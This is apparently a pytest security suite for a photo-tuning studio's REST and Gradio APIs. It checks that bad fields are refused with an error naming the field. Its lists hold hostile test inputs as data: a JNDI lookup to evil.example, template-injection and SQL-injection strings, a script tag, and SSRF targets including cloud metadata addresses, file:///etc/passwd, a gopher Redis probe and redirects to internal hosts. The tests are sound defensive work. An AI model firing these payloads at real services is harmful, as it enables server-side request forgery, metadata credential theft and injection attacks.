"""Bad fields through the REST API, the Gradio API and the tabs' own events: each refused naming the field.

Wrong types, numbers out of range, unknown names, 1 MB strings, template injection (refused, or kept as
literal text and never evaluated), and SSRF targets in photo URLs and callbacks (private, loopback and
metadata addresses, numeric spellings, internal names, other schemes, redirects and DNS answers that lead
there). The server answers 422 JSON naming the field (REST) or a `gr.Error` naming it (gradio_client),
creates nothing and keeps answering. No photos are needed: every field here is checked before photos.
"""

from __future__ import annotations

import io
import threading
import uuid
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar

import httpx
import pytest
from gradio_client.exceptions import AppError

from pipelines.errors import FetchError, ValidationError
from storage.db import Database
from storage.net import fetch_url, post_json
from studio.requests import TuneCreate
from studio.service import Studio
from tests.conftest import astronaut_photos
from tests.security.conftest import Served, call_in_session, call_raw

MB = "x" * 1_000_000
CHARACTERISTIC = "{0.__class__} ${7*7} %s {subject}"  # looks like code to str.format, JNDI, printf, Python
PACK = "corporate-headshots"


@pytest.fixture(scope="module")
def alice_rest(served: Served) -> Iterator[httpx.Client]:
    with served.rest("alice") as client:
        yield client


@pytest.fixture(scope="module")
def alice_gradio(served: Served):
    return served.gradio("alice")


@pytest.fixture(scope="module")
def tune_id(alice_rest) -> int:
    """A tune of alice's to queue prompts on; its characteristic only looks like code."""
    files = []
    for i, photo in enumerate(astronaut_photos()):
        buffer = io.BytesIO()
        photo.save(buffer, format="JPEG", quality=90)
        files.append(("tune[images][]", (f"me-{i}.jpg", buffer.getvalue(), "image/jpeg")))
    fields = {"tune[title]": "Prompts here", "tune[name]": "woman", "tune[characteristics][eye_color]": CHARACTERISTIC}
    response = alice_rest.post("/tunes", data=fields, files=files)
    assert response.status_code == 201, response.text
    return response.json()["id"]


@pytest.fixture(scope="module")
def counts(served: Served, tune_id):
    """Alice's tunes and prompts, to check that a refused request created nothing."""

    def read() -> tuple[int, int]:
        return len(served.studio.list_tunes("alice", limit=100)), len(served.studio.list_prompts("alice", limit=100))

    return read


@pytest.fixture
def nothing_created(served: Served, counts):
    before = counts()
    yield
    assert counts() == before
    served.still_answers()


def assert_rest_names(response: httpx.Response, field: str) -> None:
    assert response.status_code == 422, (field, response.status_code, response.text[:300])
    body = response.json()
    assert list(body["errors"]) == [field], body["errors"]
    assert f"`{field}`" in body["error"] and "Traceback" not in response.text


def assert_gradio_names(call, field: str) -> None:
    with pytest.raises(AppError) as refused:
        call()
    assert f"`{field}`" in str(refused.value), str(refused.value)[:300]


# -- numbers, types, names, sizes ------------------------------------------------------------------

# (tune fields beside title and name, the field the answer names)
TUNE_FIELDS = {
    "steps as text": ({"steps": "many"}, "steps"),
    "steps as a list": ({"steps": [100]}, "steps"),
    "steps 0": ({"steps": 0}, "steps"),
    "steps -1": ({"steps": -1}, "steps"),
    "steps 10**9": ({"steps": 10**9}, "steps"),
    "title as a list": ({"title": ["Me"]}, "title"),
    "title of 1 MB": ({"title": MB}, "title"),
    "title blank": ({"title": "   "}, "title"),
    "name as a list": ({"name": ["woman"]}, "name"),
    "name of 1 MB": ({"name": MB}, "name"),
    "name unknown": ({"name": "wo-man 2"}, "name"),
    "branch unknown": ({"branch": "sd99"}, "branch"),
    "branch as a list": ({"branch": ["fast"]}, "branch"),
    "token injection": ({"token": "{{__class__}}"}, "token"),
    "token of 1 MB": ({"token": MB}, "token"),
    "characteristics as a list": ({"characteristics": ["green"]}, "characteristics"),
    "characteristic as a list": ({"characteristics": {"eye_color": ["green"]}}, "characteristics.eye_color"),
    "characteristic of 1 MB": ({"characteristics": {"eye_color": MB}}, "characteristics.eye_color"),
    "characteristic {{ }}": ({"characteristics": {"eye_color": "{{__class__}}"}}, "characteristics.eye_color"),
    "characteristic {% %}": ({"characteristics": {"eye_color": "{% for x in y %}"}}, "characteristics.eye_color"),
    "characteristic key reserved": ({"characteristics": {"token": "x"}}, "characteristics.token"),
    "characteristic key odd": ({"characteristics": {"Eye Color!": "x"}}, "characteristics.Eye Color!"),
    "model_type unknown": ({"model_type": "faceid"}, "model_type"),
    "base_tune_id as text": ({"base_tune_id": "one"}, "base_tune_id"),
    "base_tune_id 2**70": ({"base_tune_id": 2**70}, "base_tune_id"),
    "preset of 1 MB": ({"preset": MB}, "preset"),
    "face_crop as text": ({"face_crop": "maybe"}, "face_crop"),
    "image_urls as text": ({"image_urls": "http://example.com/me.jpg"}, "image_urls"),
    "prompt num_images 0": (
        {"prompts_attributes": [{"text": "x", "num_images": 0}]},
        "prompts_attributes[0].num_images",
    ),
    "prompt w 500": ({"prompts_attributes": [{"text": "x", "w": 500}]}, "prompts_attributes[0].w"),
    "prompt text {{ }}": ({"prompts_attributes": [{"text": "{{__class__}}"}]}, "prompts_attributes[0].text"),
    "second prompt text {% %}": (
        {"prompts_attributes": [{"text": "x"}, {"text": "{% if 1 %}x{% endif %}"}]},
        "prompts_attributes[1].text",
    ),
    "prompt negative {{ }}": (
        {"prompts_attributes": [{"text": "x", "negative_prompt": "{{config}}"}]},
        "prompts_attributes[0].negative_prompt",
    ),
    "prompts as an object": ({"prompts_attributes": {"text": "x"}}, "prompts_attributes"),
}

# (prompt fields beside text, the field the answer names); REST and the Gradio API share these names
PROMPT_FIELDS = {
    "num_images as text": ({"num_images": "four"}, "num_images"),
    "num_images as a list": ({"num_images": [1]}, "num_images"),
    "num_images 0": ({"num_images": 0}, "num_images"),
    "num_images 9": ({"num_images": 9}, "num_images"),
    "num_images -1": ({"num_images": -1}, "num_images"),
    "steps 0": ({"steps": 0}, "steps"),
    "steps 10**9": ({"steps": 10**9}, "steps"),
    "seed -1": ({"seed": -1}, "seed"),
    "seed 2**70": ({"seed": 2**70}, "seed"),
    "seed as text": ({"seed": "lucky"}, "seed"),
    "cfg_scale 1e9": ({"cfg_scale": 1e9}, "cfg_scale"),
    "cfg_scale -1": ({"cfg_scale": -1}, "cfg_scale"),
    "cfg_scale as text": ({"cfg_scale": "high"}, "cfg_scale"),
    "w not a multiple of 8": ({"w": 500}, "w"),
    "h not a multiple of 8": ({"h": 333}, "h"),
    "w huge": ({"w": 100_000}, "w"),
    "h huge": ({"h": 10**9}, "h"),
    "w 0": ({"w": 0}, "w"),
    "w as text": ({"w": "wide"}, "w"),
    "scheduler unknown": ({"scheduler": "warp"}, "scheduler"),
    "scheduler as a list": ({"scheduler": ["euler"]}, "scheduler"),
    "super_resolution as text": ({"super_resolution": "maybe"}, "super_resolution"),
    "text as a list": ({"text": ["a"]}, "text"),
    "text empty": ({"text": ""}, "text"),
    "text of 1 MB": ({"text": MB}, "text"),
    "negative_prompt of 1 MB": ({"negative_prompt": MB}, "negative_prompt"),
    "text {{__class__}}": ({"text": "{{__class__}}"}, "text"),
    "text {% for %}": ({"text": "{% for x in range(10**9) %}x{% endfor %}"}, "text"),
    "text {{token.__init__}}": ({"text": "{{token.__init__}}"}, "text"),
    "text {{ subject.__class__.__mro__ }}": ({"text": "{{ subject.__class__.__mro__ }}"}, "text"),
    "text {{config}}": ({"text": "portrait of {{config}}"}, "text"),
    "text lora tag to nothing": ({"text": "<lora:abc> x"}, "text"),
    "negative_prompt {{__class__}}": ({"negative_prompt": "{{__class__}}"}, "negative_prompt"),
    "callback as a list": ({"callback": ["https://example.com/hook"]}, "callback"),
}
# the Gradio API has no aspect ratio; REST also names its alias when sent by it
REST_ONLY_PROMPT_FIELDS = {"ar unknown": ({"ar": "1:999"}, "aspect_ratio")}


@pytest.mark.parametrize(("fields", "field"), TUNE_FIELDS.values(), ids=list(TUNE_FIELDS))
@pytest.mark.usefixtures("nothing_created")
def test_rest_tune_fields(alice_rest, fields: dict[str, Any], field: str):
    body = {"title": f"Tune {field}", "name": "woman", **fields}
    assert_rest_names(alice_rest.post("/tunes", json={"tune": body}), field)


@pytest.mark.parametrize(
    ("fields", "field"),
    [*PROMPT_FIELDS.values(), *REST_ONLY_PROMPT_FIELDS.values()],
    ids=[*PROMPT_FIELDS, *REST_ONLY_PROMPT_FIELDS],
)
@pytest.mark.usefixtures("nothing_created")
def test_rest_prompt_fields(alice_rest, tune_id: int, fields: dict[str, Any], field: str):
    response = alice_rest.post(f"/tunes/{tune_id}/prompts", json={"prompt": {"text": "x", **fields}})
    assert_rest_names(response, field)


@pytest.mark.parametrize(("fields", "field"), PROMPT_FIELDS.values(), ids=list(PROMPT_FIELDS))
@pytest.mark.usefixtures("nothing_created")
def test_gradio_prompt_fields(alice_gradio, tune_id: int, fields: dict[str, Any], field: str):
    arguments = {"tune_id": tune_id, "text": "x", **fields}
    assert_gradio_names(lambda: alice_gradio.predict(**arguments, api_name="/create_prompt"), field)


# /create_tune's inputs are components (files, text boxes, a number, check boxes, JSON)
GRADIO_TUNE_FIELDS = {
    "steps 10**9": ({"steps": 10**9}, "steps"),
    "steps -1": ({"steps": -1}, "steps"),
    "title of 1 MB": ({"title": MB}, "title"),
    "title blank": ({"title": "  "}, "title"),
    "name of 1 MB": ({"name": MB}, "name"),
    "name unknown": ({"name": "wo-man 2"}, "name"),
    "branch unknown": ({"branch": "sd99"}, "branch"),
    "token injection": ({"token": "{{__class__}}"}, "token"),
    "face_crop as text": ({"face_crop": "maybe"}, "face_crop"),
    "auto_extend as a number": ({"auto_extend": 7}, "auto_extend"),
    "characteristics as a list": ({"characteristics": ["green"]}, "characteristics"),
    "characteristics as text": ({"characteristics": "eye_color=green"}, "characteristics"),
    "characteristic {{ }}": ({"characteristics": {"eye_color": "{{__class__}}"}}, "characteristics.eye_color"),
    "characteristic {% %}": ({"characteristics": {"eye_color": "{% raw %}"}}, "characteristics.eye_color"),
    "characteristic as a number": ({"characteristics": {"eye_color": 7}}, "characteristics.eye_color"),
    "styles unknown": ({"styles": ["no-such-pack/woman/0"]}, "styles[0]"),
    "styles as a number": ({"styles": 7}, "styles"),
    "styles too many": ({"styles": [f"{PACK}/woman/0"] * 9}, "styles"),
}


@pytest.mark.parametrize(("fields", "field"), GRADIO_TUNE_FIELDS.values(), ids=list(GRADIO_TUNE_FIELDS))
@pytest.mark.usefixtures("nothing_created")
def test_gradio_tune_fields(alice_gradio, fields: dict[str, Any], field: str):
    arguments = {"photos": [], "title": f"Gradio {field}", "name": "woman", **fields}
    assert_gradio_names(lambda: alice_gradio.predict(**arguments, api_name="/create_tune"), field)


# JSON endpoints: ids and pages of the wrong type or beyond what the database holds
GRADIO_IDS = {
    "get_tune text": ("/get_tune", {"tune_id": "1 OR 1=1"}, "tune_id"),
    "get_tune 2**70": ("/get_tune", {"tune_id": 2**70}, "tune_id"),
    "cancel_tune list": ("/cancel_tune", {"tune_id": [1]}, "tune_id"),
    "delete_tune float": ("/delete_tune", {"tune_id": 1.5}, "tune_id"),
    "list_prompts text": ("/list_prompts", {"tune_id": "1; DROP TABLE prompts"}, "tune_id"),
    "list_tunes limit text": ("/list_tunes", {"limit": "all"}, "limit"),
    "list_tunes limit 10**9": ("/list_tunes", {"limit": 10**9}, "limit"),
    "list_tunes offset -1": ("/list_tunes", {"offset": -1}, "offset"),
    "delete_prompt 2**70": ("/delete_prompt", {"prompt_id": 2**70}, "prompt_id"),
    "like text": ("/like", {"image_id": "*"}, "image_id"),
    "get_prompt none": ("/get_prompt", {"prompt_id": None}, "prompt_id"),
    "like liked as text": ("/like", {"image_id": 1, "liked": "false"}, "liked"),
    "create_prompt tune_id text": ("/create_prompt", {"tune_id": "mine", "text": "x"}, "tune_id"),
    "pack tune_ids text": ("/create_tune_from_pack", {"pack_id": PACK, "tune_ids": ["one"]}, "tune_ids[0]"),
    "pack tune_ids number": ("/create_tune_from_pack", {"pack_id": PACK, "tune_ids": 7}, "tune_ids"),
}


@pytest.mark.parametrize(("api_name", "arguments", "field"), GRADIO_IDS.values(), ids=list(GRADIO_IDS))
@pytest.mark.usefixtures("nothing_created")
def test_gradio_ids_and_pages(alice_gradio, api_name: str, arguments: dict[str, Any], field: str):
    assert_gradio_names(lambda: alice_gradio.predict(**arguments, api_name=api_name), field)


# A number box given something else is refused by Gradio before the endpoint runs; its message gives the
# input's position and kind and the value sent (not the input's name).
GRADIO_NUMBER_BOXES = {
    "create_tune steps as text": ("/create_tune", {"photos": [], "title": "T", "name": "woman"}, "steps", "many", 4),
    "create_tune steps as a list": ("/create_tune", {"photos": [], "title": "T", "name": "woman"}, "steps", [9], 4),
    "get_prompt prompt_id as text": ("/get_prompt", {}, "prompt_id", "latest", 0),
}


@pytest.mark.parametrize(
    ("api_name", "arguments", "box", "sent", "index"), GRADIO_NUMBER_BOXES.values(), ids=list(GRADIO_NUMBER_BOXES)
)
@pytest.mark.usefixtures("nothing_created")
def test_gradio_number_boxes_refuse_other_types(alice_gradio, api_name, arguments, box, sent, index):
    with pytest.raises(AppError) as refused:
        alice_gradio.predict(**arguments, **{box: sent}, api_name=api_name)
    message = str(refused.value)
    assert f"index {index} (a `number` component)" in message and repr(sent) in message, message


# -- template injection that is not a template: kept as literal text ------------------------------

LITERAL = [
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}",
    "{subject.__init__.__globals__}",
    "%s%s%n %(token)s",
    "#{7*7} ${7*7} <%= 7*7 %>",
    "'; DROP TABLE prompts; --",
    "<script>alert(1)</script>",
]


@pytest.mark.parametrize("text", LITERAL)
def test_text_that_only_looks_like_code_is_kept_literally(alice_rest, alice_gradio, tune_id: int, text: str):
    via_rest = alice_rest.post(f"/tunes/{tune_id}/prompts", json={"prompt": {"text": text, "num_images": 1}})
    assert via_rest.status_code == 201, via_rest.text
    via_gradio = alice_gradio.predict(tune_id=tune_id, text=text, num_images=1, api_name="/create_prompt")
    for prompt in (via_rest.json(), via_gradio):
        assert prompt["text"] == text and prompt["rendered_text"] == f"sks woman, {text}"


def test_characteristics_are_inserted_as_text_never_rendered_again(alice_rest, alice_gradio, tune_id: int):
    """The tune's characteristic looks like format strings; it fills prompts as it is, and only once."""
    template = "{{subject}} with {{eye_color}} eyes"
    via_rest = alice_rest.post(f"/tunes/{tune_id}/prompts", json={"prompt": {"text": template, "num_images": 1}})
    via_gradio = alice_gradio.predict(tune_id=tune_id, text=template, num_images=1, api_name="/create_prompt")
    for prompt in (via_rest.json(), via_gradio):
        assert prompt["rendered_text"] == f"sks woman with {CHARACTERISTIC} eyes"


# -- SSRF: photo URLs and callbacks ----------------------------------------------------------------

SSRF = [
    "http://127.0.0.1/",
    "http://localhost/",
    "http://10.0.0.1/",
    "http://169.254.169.254/latest/meta-data",
    "http://[::1]/",
    "http://0.0.0.0/",
    "http://2130706433/",
    "http://127.1/",
    "http://0x7f.0.0.1/",
    "http://[::ffff:169.254.169.254]/latest/meta-data",
    "http://192.168.1.1:8080/admin",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://user:pw@example.com/photo.jpg",
    "file:///etc/passwd",
    "ftp://example.com/photo.jpg",
    "gopher://127.0.0.1:6379/_INFO",
    "data:image/png;base64,iVBORw0KGgo=",
    "javascript:alert(1)",
    "http://example.com/" + "a" * 1_000_000,
]


def _ssrf_id(url: str) -> str:
    return url if len(url) < 80 else url[:30] + "...(1 MB)"


# (REST route, body with the URL in it, the field the answer names)
REST_URL_FIELDS = {
    "image_urls": (
        "/tunes",
        lambda url: {"tune": {"image_urls": ["https://example.com/ok.jpg", url][1:]}},
        "image_urls[0]",
    ),
    "callback": ("/tunes", lambda url: {"tune": {"callback": url}}, "callback"),
    "prompt_attributes.callback": (
        "/tunes",
        lambda url: {"tune": {"prompt_attributes": {"callback": url}}},
        "prompt_callback",
    ),
    "prompts_attributes[0].callback": (
        "/tunes",
        lambda url: {"tune": {"prompts_attributes": [{"text": "x", "callback": url}]}},
        "prompts_attributes[0].callback",
    ),
    "pack prompts_callback": (f"/p/{PACK}/tunes", lambda url: {"tune": {"prompts_callback": url}}, "prompts_callback"),
    "pack image_urls": (f"/p/{PACK}/tunes", lambda url: {"tune": {"image_urls": [url]}}, "image_urls[0]"),
}


@pytest.mark.parametrize("where", list(REST_URL_FIELDS))
@pytest.mark.parametrize("url", SSRF, ids=_ssrf_id)
@pytest.mark.usefixtures("nothing_created")
def test_rest_refuses_internal_urls(alice_rest, url: str, where: str):
    route, body, field = REST_URL_FIELDS[where]
    payload = body(url)
    payload["tune"] |= {"title": f"URL {where} {url[:60]}", "name": "woman"}
    assert_rest_names(alice_rest.post(route, json=payload), field)


@pytest.mark.parametrize("url", SSRF, ids=_ssrf_id)
@pytest.mark.usefixtures("nothing_created")
def test_rest_refuses_internal_prompt_callbacks(alice_rest, tune_id: int, url: str):
    response = alice_rest.post(f"/tunes/{tune_id}/prompts", json={"prompt": {"text": "x", "callback": url}})
    assert_rest_names(response, "callback")


GRADIO_SSRF = [url for url in SSRF if len(url) < 1000]


@pytest.mark.parametrize("url", GRADIO_SSRF)
@pytest.mark.usefixtures("nothing_created")
def test_gradio_refuses_internal_prompt_callbacks(alice_gradio, tune_id: int, url: str):
    assert_gradio_names(
        lambda: alice_gradio.predict(tune_id=tune_id, text="x", callback=url, api_name="/create_prompt"), "callback"
    )


# the tune's URL fields go through the same check as the prompt's: a few targets each show the field is named
@pytest.mark.parametrize("field", ["callback", "prompts_callback"])
@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data", "http://2130706433/", "file:///etc/passwd"])
@pytest.mark.usefixtures("nothing_created")
def test_gradio_refuses_internal_tune_callbacks(alice_gradio, field: str, url: str):
    arguments = {"photos": [], "title": f"Hook {url}", "name": "woman", field: url}
    assert_gradio_names(lambda: alice_gradio.predict(**arguments, api_name="/create_tune"), field)


@pytest.mark.parametrize(
    "url", ["http://169.254.169.254/latest/meta-data/me.jpg", "http://127.0.0.1:22/me.jpg", "http://10.0.0.1/me.jpg"]
)
@pytest.mark.usefixtures("nothing_created")
def test_gradio_file_inputs_given_as_internal_urls_are_refused(served: Served, url: str):
    """Gradio fetches a file input given as a URL itself, with its own SSRF checks: inside addresses fail."""
    photos = [{"path": url, "meta": {"_type": "gradio.FileData"}}] * 4
    with served.browser("alice") as session:
        kind, answer = call_raw(session, "check_photos", [photos, "woman"])
    assert kind == "error" and "failed validation" in str(answer), (kind, answer)


NAMES = {
    "photos.example.com": (["10.0.0.1"], "a private network address (10.0.0.1)"),
    "meta.example.com": (["169.254.169.254"], "a cloud metadata address (169.254.169.254)"),
    "rebind.example.com": (["93.184.215.14", "127.0.0.1"], "a loopback address (127.0.0.1)"),
    "six.example.com": (["::1"], "a loopback address (::1)"),
}


@pytest.mark.parametrize("name", list(NAMES))
@pytest.mark.usefixtures("nothing_created")
def test_public_names_that_resolve_inside_are_refused(alice_rest, fake_dns, name: str):
    addresses, why = NAMES[name]
    fake_dns[name] = addresses
    body = {"tune": {"title": f"DNS {name}", "name": "woman", "image_urls": [f"http://{name}/me.jpg"]}}
    response = alice_rest.post("/tunes", json=body)
    assert_rest_names(response, "image_urls[0]")
    assert why in response.json()["error"]
    response = alice_rest.post(
        "/tunes", json={"tune": {"title": "DNS hook", "name": "woman", "callback": f"https://{name}/"}}
    )
    assert_rest_names(response, "callback")


# -- redirects: a photo URL on an allowed host that sends the fetch inside ---------------------------


class _Redirector(BaseHTTPRequestHandler):
    """`/to?N`: 302 to REDIRECT_TARGETS[N]; `/landed`: recorded (a redirect that was followed got here)."""

    targets: ClassVar[list[str]] = []
    landed: ClassVar[list[str]] = []

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        self._answer()

    def do_POST(self) -> None:
        self._answer()

    def _answer(self) -> None:
        port = self.server.server_address[1]
        if self.path.startswith("/to?"):
            location = self.targets[int(self.path[4:])].format(port=port)
            self.send_response(302)
            self.send_header("Location", location)
        else:
            type(self).landed.append(self.path)
            self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()


REDIRECT_TARGETS = [
    ("http://169.254.169.254/latest/meta-data", "a cloud metadata address (169.254.169.254)"),
    ("http://10.0.0.1/", "a private network address (10.0.0.1)"),
    ("http://[::1]/", "a loopback address (::1)"),
    ("http://0.0.0.0/", "an unspecified address (0.0.0.0)"),
    ("http://2130706433/", "a loopback address (127.0.0.1)"),
    ("http://127.0.0.1:{port}/landed", "a loopback address (127.0.0.1)"),  # the same server, by its IP
    ("file:///etc/passwd", "must start with http:// or https://"),
    ("gopher://localhost:6379/_INFO", "must start with http:// or https://"),
]


@pytest.fixture(scope="module")
def redirector() -> Iterator[str]:
    """A local server that redirects inside; reached by the name `localhost`, the only allowed host."""
    _Redirector.targets = [target for target, _ in REDIRECT_TARGETS]
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Redirector)
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield f"http://localhost:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


@pytest.mark.parametrize("index", range(len(REDIRECT_TARGETS)), ids=[t for t, _ in REDIRECT_TARGETS])
def test_redirects_inside_are_refused_at_every_hop(redirector: str, index: int):
    _, why = REDIRECT_TARGETS[index]
    with pytest.raises(ValidationError) as refused:
        fetch_url(f"{redirector}/to?{index}", field="image_urls[0]", max_bytes=1_000_000, allowed_hosts=("localhost",))
    assert refused.value.field == "image_urls[0]"
    assert "was redirected to" in refused.value.message and why in refused.value.message
    assert _Redirector.landed == []


def test_a_redirect_inside_refuses_the_tune_through_the_service(served: Served, redirector: str, tmp_path):
    """The service with `localhost` allowed (the module's server allows nothing): the redirect is refused."""
    settings = replace(served.settings, data_dir=tmp_path / "data", allowed_fetch_hosts=("localhost",))
    studio = Studio(settings, Database(settings.data_dir / "tunes.db"))
    request = TuneCreate(title="Redirected", name="woman", image_urls=[f"{redirector}/to?0"])
    with pytest.raises(ValidationError) as refused:
        studio.create_tune("alice", request)
    assert refused.value.field == "image_urls[0]" and "cloud metadata address" in refused.value.message
    assert studio.list_tunes("alice") == [] and _Redirector.landed == []


def test_callbacks_never_follow_redirects(redirector: str):
    with pytest.raises(FetchError, match="callbacks do not follow redirects"):
        post_json(f"{redirector}/to?5", {"id": 1}, allowed_hosts=("localhost",), field="callback")
    assert _Redirector.landed == []


# -- the tabs' own events, as the browser sends them -------------------------------------------------------------

# Create tab inputs: photos, title, class, branch, steps, token, face crop, characteristics ("key: value" lines),
# pack, styles, pivotal tuning, visibility. Generate tab inputs: tune, prompt, negative prompt, images, seed, shape,
# steps, guidance, scheduler, face fix, hires fix, super-resolution.
CREATE_TAB = [
    "title", "name", "branch", "steps", "token", "face_crop", "characteristics", "pack", "styles", "pivotal",
    "visibility",
]  # fmt: skip
CREATE_TAB_FIELDS = {
    "title of 1 MB": ({"title": MB}, "title"),
    "class unknown": ({"name": "wo-man 2"}, "name"),
    "branch unknown": ({"branch": "sd99"}, "branch"),
    "steps 10**9": ({"steps": 10**9}, "steps"),
    "token injection": ({"token": "{{__class__}}"}, "token"),
    "characteristic {{ }}": ({"characteristics": "eye_color: {{__class__}}"}, "characteristics.eye_color"),
    "characteristics not key: value": ({"characteristics": "green eyes"}, "characteristics"),
    "pack unknown": ({"pack": "no-such-pack"}, "pack"),
    "styles unknown": ({"styles": ["no-such-pack/woman/0"]}, "styles[0]"),
    "visibility friends": ({"visibility": "friends"}, "visibility"),
}
GENERATE_TAB = ["text", "negative_prompt", "num_images", "seed", "aspect_ratio", "steps", "cfg_scale", "scheduler"]
GENERATE_TAB_FIELDS = {
    "prompt empty": ({"text": ""}, "text"),
    "prompt of 1 MB": ({"text": MB}, "text"),
    "images 9": ({"num_images": 9}, "num_images"),
    "steps 10**9": ({"steps": 10**9}, "steps"),
    "guidance 1e9": ({"cfg_scale": 1e9}, "cfg_scale"),
    "scheduler unknown": ({"scheduler": "warp"}, "scheduler"),
    "shape unknown": ({"aspect_ratio": "1:999"}, "aspect_ratio"),
    "prompt {{unknown}}": ({"text": "{{subject}} with {{hat}}"}, "text"),
    "negative prompt of 1 MB": ({"negative_prompt": MB}, "negative_prompt"),
    "seed 2**70": ({"seed": 2**70}, "seed"),
    "keep the best 3 of 4": ({"num_images": 4, "best_of": "3"}, "best_of"),
}

# the label of the widget that sets each field, as the tabs show it
LABELS = {
    "title": "Title",
    "name": "Subject",
    "branch": "Base model",
    "steps": "Training steps",
    "token": "Token",
    "characteristics": "Characteristics",
    "text": "Prompt",
    "negative_prompt": "Negative prompt",
    "num_images": "Images",
    "seed": "Seed",
    "cfg_scale": "CFG scale",
    "scheduler": "Scheduler",
    "best_of": "Keep the best of",
}


@pytest.fixture(scope="module")
def alice_browser(served: Served) -> Iterator[httpx.Client]:
    with served.browser("alice") as session:
        yield session


@pytest.fixture(scope="module")
def uploaded_photos(alice_browser) -> list[dict[str, Any]]:
    files = []
    for i, photo in enumerate(astronaut_photos()):
        buffer = io.BytesIO()
        photo.save(buffer, format="JPEG", quality=90)
        files.append(("files", (f"me-{i}.jpg", buffer.getvalue(), "image/jpeg")))
    uploaded = alice_browser.post("gradio_api/upload", files=files)
    assert uploaded.status_code == 200, uploaded.text
    return [{"path": path, "meta": {"_type": "gradio.FileData"}} for path in uploaded.json()]


def assert_refused_naming(kind: str, outputs: Any, field: str, value: Any) -> None:
    """The tab shows its banner naming the field; or Gradio refused, before the event ran, a value its widget
    cannot hold (a choice the picker does not offer, a slider beyond its end), naming the value."""
    if kind == "error":
        shown = value[0] if isinstance(value, list) else value
        assert (
            f"Value: {shown!r}" in str(outputs)
            or f"Value {shown} " in str(outputs)
            or f"Value: {shown} " in str(outputs)
        ), outputs
        assert any(why in str(outputs) for why in ("not in the list of choices", "maximum value")), outputs
        return
    assert kind == "complete", (kind, outputs)
    banner = str(outputs[0]["value"] if isinstance(outputs[0], dict) else outputs[0])
    # people read the widget's label ("Prompt must be ..."); a part of a field (`characteristics.eye_color`)
    # or one no widget sets alone (`aspect_ratio`) keeps its name
    named = f"**Could not do that.** {LABELS[field]} " if field in LABELS else f"`{field}`"
    assert "Could not do that" in banner and named in banner and f"`{field}`" not in banner.replace(named, ""), banner


@pytest.mark.parametrize(("fields", "field"), CREATE_TAB_FIELDS.values(), ids=list(CREATE_TAB_FIELDS))
@pytest.mark.usefixtures("nothing_created")
def test_the_create_tab_refuses_bad_fields_naming_them(alice_browser, uploaded_photos, fields, field):
    values = {"title": f"Tab {field}", "name": "woman", "branch": "fast", "steps": "", "token": "", "face_crop": True,
              "characteristics": "", "pack": "(no pack)", "styles": [], "pivotal": False, "visibility": "private",
              **fields}  # fmt: skip
    kind, outputs = call_raw(alice_browser, "create_tune_1", [uploaded_photos, *(values[k] for k in CREATE_TAB)])
    assert_refused_naming(kind, outputs, field, next(iter(fields.values())))


@pytest.mark.parametrize(("fields", "field"), GENERATE_TAB_FIELDS.values(), ids=list(GENERATE_TAB_FIELDS))
@pytest.mark.usefixtures("nothing_created")
def test_the_generate_tab_refuses_bad_fields_naming_them(alice_browser, tune_id, fields, field):
    values = {"text": "{{subject}}", "negative_prompt": "", "num_images": 1, "seed": -1, "aspect_ratio": "1:1",
              "steps": 4, "cfg_scale": 7.0, "scheduler": "euler_a", **fields}  # fmt: skip
    inputs = [tune_id, *(values[k] for k in GENERATE_TAB), False, False, False, values.get("best_of", "")]
    session = uuid.uuid4().hex
    loaded = call_in_session(alice_browser, session, "tunes_changed", [None])  # the tab fills its tune picker on load
    assert loaded[0] == "complete", loaded
    kind, outputs = call_in_session(alice_browser, session, "generate", inputs)
    assert_refused_naming(kind, outputs, field, next(iter(fields.values())))
